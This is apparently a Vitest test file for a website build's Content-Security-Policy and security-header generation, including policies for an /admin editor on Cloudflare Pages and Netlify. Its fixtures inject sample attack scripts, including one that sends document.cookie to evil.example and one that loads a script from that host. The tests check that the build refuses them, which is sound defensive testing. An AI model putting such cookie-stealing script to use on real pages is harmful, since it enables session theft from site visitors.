// The Content-Security-Policy's script rule: inline scripts that the site does not write itself (one that came with
// a page's content) are refused and fail the build, naming the page and its content file; the site's own inline
// scripts, if it has any, are still allowed by their hashes.
import crypto from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { firstScreenScript } from '../../build-steps/first-screen.mjs'
import {
  adminContentSecurityPolicy,
  builtHeadersFile,
  cloudflareHeadersForPath,
  contentSecurityPolicy,
  headersFile,
  headersForPath,
  inlineScriptHashes,
  parseHeaderRules,
  securityHeaders,
} from '../../build-steps/security-headers.mjs'

let dir: string
const page = (relative: string, body: string) => {
  fs.mkdirSync(path.dirname(path.join(dir, relative)), { recursive: true })
  fs.writeFileSync(
    path.join(dir, relative),
    `<!DOCTYPE html><html><head><script src="/assets/entry.js" type="module"></script></head><body>${body}</body></html>`,
  )
}
const hashOf = (script: string) => `'sha256-${crypto.createHash('sha256').update(script, 'utf8').digest('base64')}'`
const SITE_SCRIPT = 'document.documentElement.classList.add("js")'

afterEach(() => fs.rmSync(dir, { recursive: true, force: true }))

describe('inline scripts and the Content-Security-Policy', () => {
  it("refuses an inline script that came with a page's content, naming the page and its content file", () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csp-'))
    page('index.html', '<h1>Home</h1>')
    page('aboutus/index.html', '<div class="prose"><p>Welcome.</p><script>fetch("https://evil.example/?c="+document.cookie)</script></div>')
    page('ta/services/wedding/index.html', '<div class="prose"><script>alert(1)</script></div>')
    let error: unknown
    let hashes: string[] = []
    try {
      hashes = inlineScriptHashes(dir, [SITE_SCRIPT])
    } catch (caught) {
      error = caught
    }
    expect(hashes, 'hashes allowed by the policy').toEqual([])
    expect(String(error)).toMatch(/Inline scripts are refused/)
    expect(String(error)).toContain('aboutus/index.html (from content/pages/aboutus.mdx)')
    expect(String(error)).toContain('ta/services/wedding/index.html (from content/ta/pages/services/wedding.mdx)')
  })

  it("keeps allowing the site's own inline scripts by their hashes, and leaves JSON data blocks alone", () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csp-'))
    page(
      'index.html',
      `<script>${SITE_SCRIPT}</script><script type="application/ld+json">{"@context":"https://schema.org"}</script><script id="vike_pageContext" type="application/json">{}</script>`,
    )
    const hashes = inlineScriptHashes(dir, [SITE_SCRIPT])
    expect(hashes).toEqual([hashOf(SITE_SCRIPT)])
    expect(contentSecurityPolicy({ scriptHashes: hashes, connectOrigins: [] })).toContain(`script-src 'self' ${hashOf(SITE_SCRIPT)};`)
  })

  it("allows each page's first-screen lines as the build writes them, and refuses them changed", () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csp-'))
    const fonts = { key: 'thoranam:web-fonts:abc', families: ['Marcellus', 'Mulish Variable'] }
    const home = firstScreenScript('/assets/entries/pages_home.B1a2.js', fonts)
    const privacy = firstScreenScript('/assets/entries/pages_content.C3d4.js', fonts)
    page('index.html', `<script>${home}</script>`)
    page('privacy/index.html', `<script>${privacy}</script>`)
    expect(inlineScriptHashes(dir)).toEqual([hashOf(home), hashOf(privacy)].sort())
    page('aboutus/index.html', `<script>${home.replace('/assets/entries/pages_home.B1a2.js', 'https://evil.example/x.js')}</script>`)
    expect(() => inlineScriptHashes(dir)).toThrow(/aboutus\/index\.html \(from content\/pages\/aboutus\.mdx\)/)
    page('aboutus/index.html', `<script>${home.replace('document.hidden?go()', 'document.hidden?go(),alert(1)')}</script>`)
    expect(() => inlineScriptHashes(dir)).toThrow(/Inline scripts are refused/)
  })
})

describe("the editor's own headers under each host's rules", () => {
  const siteCsp = contentSecurityPolicy({ scriptHashes: [], connectOrigins: [] })
  const adminCsp = adminContentSecurityPolicy({ connectOrigins: ['https://api.github.com'], imgOrigins: [] })
  const site = securityHeaders(siteCsp)
  const admin = { ...securityHeaders(adminCsp), 'X-Robots-Tag': 'noindex', 'Cache-Control': 'no-cache' }

  it("on Cloudflare Pages (which joins every matching block's values), /admin gets its own policy alone, and the site keeps its own", () => {
    const rules = parseHeaderRules(headersFile(site, admin))
    for (const pathname of ['/admin', '/admin/', '/admin/config.yml']) {
      const sent = cloudflareHeadersForPath(rules, pathname)
      expect(sent['Content-Security-Policy']).toBe(adminCsp)
      expect(sent['X-Frame-Options']).toBe('DENY')
      expect(sent['X-Robots-Tag']).toBe('noindex')
    }
    expect(cloudflareHeadersForPath(rules, '/services/wedding')['Content-Security-Policy']).toBe(siteCsp)
  })

  it('on Netlify (later blocks replace earlier ones, and a "! Name" line is an error), the file has no such line and /admin gets its own policy', () => {
    const text = headersFile(site, admin, { detach: false })
    expect(text).not.toMatch(/^\s+!/m)
    const rules = parseHeaderRules(text)
    expect(headersForPath(rules, '/admin/')['Content-Security-Policy']).toBe(adminCsp)
    expect(headersForPath(rules, '/')['Content-Security-Policy']).toBe(siteCsp)
  })
})

describe("the editor's policy lets it reach only GitHub and its own origin", () => {
  it("connect-src is the editor itself, its uploads being saved (blob:) and GitHub's API, whatever sign-in service is set", () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'admin-csp-'))
    page('index.html', '')
    fs.mkdirSync(path.join(dir, 'admin'))
    const env = { CMS_AUTH_URL: 'https://sveltia-cms-auth.example.workers.dev', VITE_ENQUIRY_SHEET_URL: 'https://sheetdb.io/api/v1/x' }
    const sent = headersForPath(parseHeaderRules(builtHeadersFile(env, dir)), '/admin/')['Content-Security-Policy']
    const directive = (name: string) => sent.split('; ').find((part) => part.startsWith(`${name} `))
    expect(directive('connect-src')).toBe("connect-src 'self' blob: https://api.github.com")
    expect(directive('default-src')).toBe("default-src 'self'")
    expect(directive('form-action')).toBe("form-action 'self'")
    for (const source of directive('img-src')!.split(' ').slice(1))
      expect(source).toMatch(/^('self'|data:|blob:|https:\/\/[a-z]+\.githubusercontent\.com)$/)
  })
})
